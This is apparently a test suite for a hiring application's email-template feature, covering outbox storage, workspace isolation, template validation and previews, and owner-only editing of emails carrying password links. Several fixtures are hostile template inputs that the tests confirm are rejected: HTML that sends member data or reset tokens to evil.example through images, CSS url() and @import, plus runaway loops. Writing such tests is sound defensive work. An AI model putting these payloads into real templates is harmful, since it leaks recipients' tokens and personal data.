import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { Browser, joinedMember } from '../../../test/browser.ts';
import { eventually } from '../../../test/eventually.ts';
import { type Caller, type Json, startService, type TestWorkspace } from '../../../test/harness.ts';
import { makeCandidate, makeJob } from '../../../test/hiring.ts';
import { sql } from '../../platform/database/sql.ts';
import { fixedImages } from '../../platform/email/clean-html.ts';
import { revealToken } from './redacted-token.ts';

// Without a mail server and workers, so that queued emails remain.
const service = await startService();

const PATH = '/email-templates/member_invited';
const WORDS = {
  subject: 'Welcome, {{ member.name }}',
  text: 'Hello {{ member.name }},\n\nyou are a {{ member.role }}.',
};

async function invite({ api }: TestWorkspace, name = 'Grace Hopper'): Promise<void> {
  const email = `grace-${++invited}@example.com`;
  assert.equal((await api('POST', '/members', { email, name, role: 'recruiter' })).status, 201);
}
let invited = 0;

/** Calls the API as an owner with a session: no one else can change emails with a personal link. */
async function owner(workspace: TestWorkspace): Promise<Caller> {
  const known = owners.get(workspace);
  if (known !== undefined) return known;
  const browser = new Browser(service);
  const { email } = await joinedMember(workspace, 'owner');
  assert.equal((await browser.signIn(workspace, email)).status, 201);
  const api = browser.api.bind(browser);
  owners.set(workspace, api);
  return api;
}
const owners = new WeakMap<TestWorkspace, Caller>();

/** Without those about sign-ins from new browsers. */
const emailsOf = async ({ api }: TestWorkspace): Promise<Json[]> =>
  (await api('GET', '/emails')).body.data.filter(({ kind }: Json) => kind !== 'security_notice');

describe('the outbox without a mail server', () => {
  it('stores complete emails in the transaction that caused them', async () => {
    const workspace = await service.workspace();
    await invite(workspace);
    const [mail, ...more] = await emailsOf(workspace);
    assert.deepEqual(more, []);
    assert.deepEqual([mail.kind, mail.status, mail.attempts, mail.sentAt], ['member_invited', 'pending', 0, null]);
    assert.match(mail.to, /^Grace Hopper <grace-\d+@example\.com>$/);
    assert.ok(mail.text.includes(service.url));
    assert.match(mail.html, /<p>Dear Grace Hopper,<\/p>/);
    assert.deepEqual((await workspace.api('GET', `/emails/${mail.id}`)).body.data, mail);
  });

  it('contains only the emails of the workspace', async () => {
    const [workspace, outsider] = [await service.workspace(), await service.workspace()];
    await invite(workspace);
    const [mail] = await emailsOf(workspace);
    assert.deepEqual(await emailsOf(outsider), []);
    assert.equal((await outsider.api('GET', `/emails/${mail.id}`)).status, 404);
  });
});

describe('templates', () => {
  it('are the defaults until a workspace customizes them, and again after a reset', async () => {
    const workspace = await service.workspace();
    const { body: before } = await workspace.api('GET', PATH);
    assert.deepEqual([before.data.isDefault, before.data.enabled, before.data.updatedAt], [true, true, null]);
    assert.ok(before.data.variables.includes('member.role'));
    const put = await (await owner(workspace))('PUT', PATH, WORDS);
    assert.deepEqual([put.status, put.body.data.isDefault, put.body.data.html], [200, false, null]);
    await invite(workspace);
    const [own] = await emailsOf(workspace);
    assert.equal(own.subject, 'Welcome, Grace Hopper');
    assert.match(own.text, /^Hello Grace Hopper,\n\nyou are a recruiter\.\n\nChoose a password:\nhttp\S+#token=\S+$/);
    assert.match(own.html, /<p>Hello Grace Hopper,<\/p>\n<p>you are a recruiter\.<\/p>/);

    assert.equal((await (await owner(workspace))('DELETE', PATH)).status, 204);
    const { body: reset } = await workspace.api('GET', PATH);
    assert.deepEqual({ ...reset.data, updatedAt: null }, before.data);
    await invite(workspace);
    assert.match((await emailsOf(workspace))[0].subject, /^You are invited to /);
  });

  it('of one workspace do not affect another', async () => {
    const [workspace, other] = [await service.workspace(), await service.workspace()];
    await (await owner(workspace))('PUT', PATH, WORDS);
    await invite(other);
    assert.match((await emailsOf(other))[0].subject, /^You are invited to /);
  });

  it('can have custom HTML, in which data is escaped', async () => {
    const workspace = await service.workspace();
    await (await owner(workspace))('PUT', PATH, { ...WORDS, html: '<h1>{{ member.name }}</h1>' });
    await invite(workspace, '<b>Bobby & Co</b>');
    const [mail] = await emailsOf(workspace);
    assert.match(mail.html, /^<h1>&lt;b&gt;Bobby &amp; Co&lt;\/b&gt;<\/h1>\n<p><a href="http/);
    assert.match(mail.text, /^Hello <b>Bobby & Co<\/b>,/);
  });

  it('emails of a disabled kind are not sent until it is enabled', async () => {
    const workspace = await service.workspace();
    await (await owner(workspace))('PUT', PATH, { ...WORDS, enabled: false });
    await invite(workspace);
    assert.deepEqual(await emailsOf(workspace), []);
    await (await owner(workspace))('PUT', PATH, { ...WORDS, enabled: true });
    await invite(workspace);
    assert.equal((await emailsOf(workspace)).length, 1);
  });

  it('a PUT with equal values records no event, a change does; an outdated If-Match is rejected', async () => {
    const workspace = await service.workspace();
    const first = await (await owner(workspace))('PUT', PATH, WORDS);
    const same = await (await owner(workspace))('PUT', PATH, WORDS);
    assert.deepEqual(same.body, first.body);
    const stale = await (await owner(workspace))('PUT', PATH, { ...WORDS, subject: 'x' }, { 'if-match': '"r999"' });
    assert.equal(stale.status, 412);
    const { body } = await workspace.api('GET', '/activity-events?type=email_template.updated');
    assert.deepEqual(
      body.data.map((event: Json) => event.data.emailTemplate.subject),
      [WORDS.subject],
    );
  });

  for (const [what, field, words] of [
    ['wrong syntax', 'subject', { ...WORDS, subject: 'Hello {{ member.name' }],
    ['an unknown tag', 'text', { ...WORDS, text: '{% include "secrets" %}' }],
    ['an unknown variable', 'text', { ...WORDS, text: 'Dear {{ candidate.firstName }}' }],
    ['wrong syntax in the HTML', 'html', { ...WORDS, html: '<p>{% if member.name %}</p>' }],
    ['an unknown filter', 'html', { ...WORDS, html: '{{ member.name | shout }}' }],
    ['a subject without an end', 'subject', { ...WORDS, subject: '{% for i in (1..1000000000) %}x{% endfor %}' }],
    ['an image', 'html', { ...WORDS, html: '<p>Hi</p><img src="https://example.com/logo.png">' }],
    [
      'an image with data in its address',
      'html',
      { ...WORDS, html: '<img src="https://example.com/?{{ member.name | url_encode }}">' },
    ],
    ['a style sheet', 'html', { ...WORDS, html: '<style>a { background: url(https://example.com/) }</style>' }],
    ['a style that loads', 'html', { ...WORDS, html: '<p style="background: url(https://example.com/)">Hi</p>' }],
    [
      'a style that loads, escaped',
      'html',
      { ...WORDS, html: '<p style="background: u\\72l(https://example.com/)">Hi</p>' },
    ],
    ['an attribute that loads', 'html', { ...WORDS, html: '<table background="https://example.com/"></table>' }],
    ['a link to a style sheet', 'html', { ...WORDS, html: '<link rel="stylesheet" href="https://example.com/">' }],
    ['the link as a variable', 'text', { ...WORDS, text: 'Go to {{ link.url }}' }],
    ['the link as a variable in the HTML', 'html', { ...WORDS, html: '<a href="{{ link.url }}">Go</a>' }],
    ['an email without an end', 'text', { ...WORDS, text: '{% for i in (1..1000000000) %}x{% endfor %}' }],
  ] as const) {
    it(`${what} is rejected, naming the field, by PUT and by the preview`, async () => {
      const workspace = await service.workspace();
      for (const [method, path] of [
        ['PUT', PATH],
        ['POST', `${PATH}/preview`],
      ] as const) {
        const { status, body } = await (await owner(workspace))(method, path, words);
        assert.deepEqual([status, body.error?.details?.field], [422, field], JSON.stringify(body));
        assert.ok(body.error!.details.fields[field][0].length > 0);
      }
      assert.equal((await workspace.api('GET', PATH)).body.data.isDefault, true);
    });
  }

  it('a preview renders the given content, or the current template, with sample data, and stores nothing', async () => {
    const workspace = await service.workspace();
    const { body: present } = await workspace.api('POST', `${PATH}/preview`);
    assert.match(present.data.subject, /^You are invited to Acme$/);
    const { body: draft } = await workspace.api('POST', `${PATH}/preview`, WORDS);
    assert.equal(draft.data.subject, 'Welcome, Grace Hopper');
    assert.match(draft.data.text, /^Hello Grace Hopper,\n\nyou are a recruiter\.\n\nChoose a password:\nhttps:/);
    assert.equal((await workspace.api('GET', PATH)).body.data.isDefault, true);
    assert.deepEqual(await emailsOf(workspace), []);
  });

  it('a preview of a stored template that exceeds the limits is 422 naming the field', async () => {
    const workspace = await service.workspace();
    // As stored by a version whose limits were higher.
    const text = '{% for i in (1..1000000000) %}x{% endfor %}';
    await service.db.write.query(sql`
      insert into mail_templates (workspace_id, kind, enabled, subject, text)
      values (${workspace.id}, 'offer_sent', true, 'Offer', ${text})`);
    const { status, body } = await workspace.api('POST', '/email-templates/offer_sent/preview');
    assert.deepEqual([status, body.error?.details.field], [422, 'text']);
  });

  it('every default renders with its sample data, without placeholders', async () => {
    const workspace = await service.workspace();
    const { body } = await workspace.api('GET', '/email-templates');
    assert.equal(body.data.length, 8);
    for (const { kind } of body.data) {
      const preview = await workspace.api('POST', `/email-templates/${kind}/preview`);
      assert.equal(preview.status, 200, kind);
      for (const text of Object.values<string>(preview.body.data)) {
        assert.ok(text.length > 10, kind);
        assert.doesNotMatch(text, /\{\{|\{%|undefined|null|\[object/, kind);
      }
    }
  });
});

describe('emails with a personal link', () => {
  const KINDS_WITH_LINK = ['member_invited', 'password_reset'];
  const words = { subject: 'Hello', text: 'Hello.' };

  it('can be changed and reset by owners with a session only', async () => {
    const workspace = await service.workspace();
    const admin = new Browser(service);
    await admin.signIn(workspace, (await joinedMember(workspace, 'admin')).email);
    for (const kind of KINDS_WITH_LINK) {
      const path = `/email-templates/${kind}`;
      for (const api of [workspace.api, admin.api.bind(admin)]) {
        assert.equal((await api('PUT', path, words)).status, 403);
        assert.equal((await api('PUT', path, { ...words, enabled: false })).status, 403);
        assert.equal((await api('DELETE', path)).status, 403);
        assert.equal((await api('GET', path)).body.data.isDefault, true);
      }
      assert.equal((await (await owner(workspace))('PUT', path, words)).status, 200);
      assert.equal((await workspace.api('GET', path)).body.data.hasLink, true);
    }
    assert.equal(
      (await admin.api('PUT', '/email-templates/offer_sent', words)).status,
      200,
      'other kinds are as before',
    );
  });

  it('cannot obtain the link through its placeholder in the email log', async () => {
    const workspace = await service.workspace();
    const decoy = 'https://evil.example/#token=only-in-the-email-itself';
    const api = await owner(workspace);
    const html = `<a href="${decoy}">Go</a> <p title="${decoy}">x</p>`;
    assert.equal((await api('PUT', PATH, { subject: 'x', text: `${decoy} ${decoy}`, html })).status, 200);
    await invite(workspace);
    const [row] = await service.db.write.query<{ text: string; html: string; tokenSealed: Buffer }>(sql`
      select text, html, token_sealed as "tokenSealed" from mails
      where workspace_id = ${workspace.id} and kind <> 'security_notice'`);
    const sent = revealToken(service.services.secrets, row!, row!.tokenSealed);
    for (const body of [sent.text, sent.html]) {
      assert.match(body, /set-password#token=[\w-]{64}/);
      assert.doesNotMatch(body, /evil\.example\/#token=(?!only-in-the-email-itself)/);
    }
  });

  it('with templates stored when the link was a variable have the link below the text only', async () => {
    const workspace = await service.workspace();
    const html = `<p>Go:</p><img src="https://evil.example/?t={{ link.url | url_encode }}"><style>@import url(https://evil.example/)</style><img src='https://evil.example/?`;
    await service.db.write.query(sql`
      insert into mail_templates (workspace_id, kind, enabled, subject, text, html)
      values (${workspace.id}, 'password_reset', true, 'Reset', ${'Go: {{ link.url }}\n\nBye'}, ${html})`);
    const member = await joinedMember(workspace, 'recruiter');
    await service.request('POST', '/api/v1/password-resets', {
      body: { workspace: workspace.slug, email: member.email },
    });
    const [mail] = await eventually(
      () => emailsOf(workspace),
      (mails) => mails.length > 0,
    );
    assert.match(mail.text, /^Go: \n\nBye\n\nReset password:\nhttp\S+#token=\S+$/);
    assert.match(mail.html, /^<p>Go:<\/p>\n<p><a href="http\S+#token=\S+"/);
    assert.ok(!mail.html.includes('evil'), mail.html);
    assert.equal((await workspace.api('POST', '/email-templates/password_reset/preview')).status, 200);
  });
});

describe('the HTML of the other emails', () => {
  it('can load images with literal URLs, and none with data in the URL', async () => {
    const workspace = await service.workspace();
    const path = '/email-templates/application_rejected';
    const logo = '<img src="https://acme.example/logo.png?a=1&amp;b=2" alt="Acme" />';
    const words = { subject: 'x', text: 'x' };
    assert.equal((await workspace.api('PUT', path, { ...words, html: `${logo}<p>Hi</p>` })).status, 200);
    const { body } = await workspace.api('POST', `${path}/preview`);
    assert.ok(body.data.html.startsWith(`${logo}<p>Hi</p>\n<p><a href="https://hiring.example.com/my/`));
    for (const html of [
      '<img src="https://evil.example/?{{ candidate.email | url_encode }}">',
      '<img src="http://acme.example/logo.png">',
      '<img src="{{ job.title }}">',
    ])
      assert.equal((await workspace.api('PUT', path, { ...words, html })).body.error?.details?.field, 'html', html);
  });

  it('loads the same images for everyone: none that data could select', async () => {
    const workspace = await service.workspace();
    const logo = '<img src="https://acme.example/logo.png" alt="Acme" />';
    const one = (name: string) => `<img src="https://evil.example/${name}.png">`;
    const conditional = [
      `{% if candidate.firstName == 'Eve' %}${one('eve')}{% else %}${one('other')}{% endif %}`,
      `{% for n in (1..3) %}${one('n')}{% endfor %}`,
      `${one('a')}{% if candidate.firstName == 'Eve' %}${one('a')}{% endif %}`,
      `{% if candidate.firstName == 'Eve' %}<!--{% endif %}${one('a')}{% if candidate.firstName == 'Eve' %}-->{% endif %}`,
    ];
    const words = { subject: 'x', text: 'x' };
    for (const html of conditional) {
      const put = await workspace.api('PUT', '/email-templates/application_rejected', { ...words, html });
      assert.equal(put.body.error?.details?.field, 'html', html);
      const template = await workspace.api('POST', '/message-templates', { name: 'Conditional', ...words, html });
      assert.equal(template.body.error?.details?.field, 'html', html);
      assert.deepEqual(fixedImages(html), new Set(), 'also when a template that was stored before is sent');
    }
    const html = `${logo}{% if candidate.firstName == 'Eve' %}<p>Hi</p>{% endif %}`;
    assert.equal((await workspace.api('PUT', '/email-templates/application_rejected', { ...words, html })).status, 200);
  });

  it('loads nothing from conditional parts that the sample data does not render', async () => {
    const workspace = await service.workspace();
    const html = `<p>Hi</p>{% if candidate.firstName == 'Eve' %}<audio controls><object data="https://evil.example/"></object>{% endif %}`;
    const put = await workspace.api('PUT', '/email-templates/application_rejected', { subject: 'x', text: 'x', html });
    assert.equal(put.status, 200);
    const candidateId = await makeCandidate(workspace, {
      firstName: 'Eve',
      email: `eve-${workspace.slug}@example.com`,
    });
    const job = await makeJob(workspace);
    const { body } = await workspace.api('POST', '/applications', { candidateId, jobId: job.id });
    await workspace.api('POST', `/applications/${body.data.id}/reject`, { notifyCandidate: true });
    const mail = (await emailsOf(workspace)).find(({ kind }) => kind === 'application_rejected');
    assert.match(mail.html, /^<p>Hi<\/p>\n<p><a href="http\S+\/my\/only-in-the-email-itself"/);
    assert.doesNotMatch(mail.html, /evil/);
  });
});
